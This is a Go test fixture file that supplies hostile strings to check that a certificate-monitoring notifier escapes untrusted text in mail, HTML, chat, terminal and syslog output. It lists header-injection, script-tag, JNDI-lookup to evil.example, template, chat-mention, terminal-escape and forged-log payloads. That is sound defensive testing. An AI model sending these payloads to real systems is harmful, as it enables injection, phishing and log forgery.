package notifytest

import (
	"encoding/json"
	"fmt"
	"strings"

	"pinwatch/notify"
)

// HostileTexts are what strangers might write into a certificate to be more than text somewhere: in a terminal, in
// mail, HTML, chats, syslog. No receiver may let any of them work.
func HostileTexts() []string {
	return []string{
		"x\r\nBcc: victim@example.net\r\n\r\n<html>",
		"\n.\r\nMAIL FROM:<evil@example.net>",
		"=?utf-8?q?=0D=0ABcc:_victim=40example.net?= =?utf-8?b?PHNjcmlwdD4=?=",
		"<script>alert(1)</script><img src=http://evil.example/x.png>",
		"</pre></td><!-- ]]> {{.Secret}} ${jndi:ldap://evil.example/a}",
		"<!channel> <!here> <@U012AB3CD> <!subteam^S1> <http://evil.example|www.example.com>",
		"@everyone @here <@123456789012345678> <@&12345> [click](http://evil.example) ||spoiler|| ```",
		"*bold* _it_ ~no~ `code` # head\n> quote\n- item <at>everyone</at>",
		"exam\u200Bple.com \u202Emoc.elpmaxe\u202C \uFEFF\u2028\u2029",
		"\x1b]0;owned\x07\x1b[2J\x00\x7f\u009b31m",
		`a] b" c\ d|e=f` + "\n" + `CEF:0|x|y|1|2|3|10|msg=forged`,
		"<13>1 2026-11-21T00:00:00Z host app - - - forged",
		"\xff\xfe\xc0\xaf not UTF-8",
		strings.Repeat("A", 5000),
	}
}

// Hostile is a finding with HostileTexts in every field that could ever hold a stranger's words, as if who made the
// message had not escaped them.
func Hostile() notify.Message {
	texts := HostileTexts()
	all := strings.Join(texts, " ")
	m := finding("hostile", "new", notify.Critical)
	m.Title, m.Text, m.Why, m.Next, m.Silence = "hostile: "+all, all, all, all, all
	m.Watch, m.Verdict, m.Event, m.Labels = texts[0], texts[1], texts[0], texts
	m.Thread = "finding/" + texts[0]
	m.Facts = []notify.Fact{{Name: texts[0], Values: texts}, {Name: "names", Values: texts}}
	m.Parts = []notify.Message{{Severity: notify.High, Title: all}}
	m.Parted = 2
	m.Finding, _ = json.Marshal(map[string]any{"id": "f7a3c1d2e4b5a697", "names": texts}) // strings always marshal
	return m
}

// ManyNames is a finding of a certificate with 10,000 names: more than any chat takes.
func ManyNames() notify.Message {
	names := make([]string, 10_000)
	for i := range names {
		names[i] = fmt.Sprintf("host-%05d.a-rather-long-label-to-make-it-worse.example.com", i)
	}
	m := finding("many-names", "new", notify.Critical)
	m.Facts = []notify.Fact{{Name: "names", Values: names}}
	for i := range 100 {
		m.Facts = append(m.Facts, notify.Fact{Name: fmt.Sprintf("fact %d", i), Values: names[:i]})
	}
	m.Finding, _ = json.Marshal(map[string]any{"id": "f7a3c1d2e4b5a697", "names": names}) // strings always marshal
	return m
}
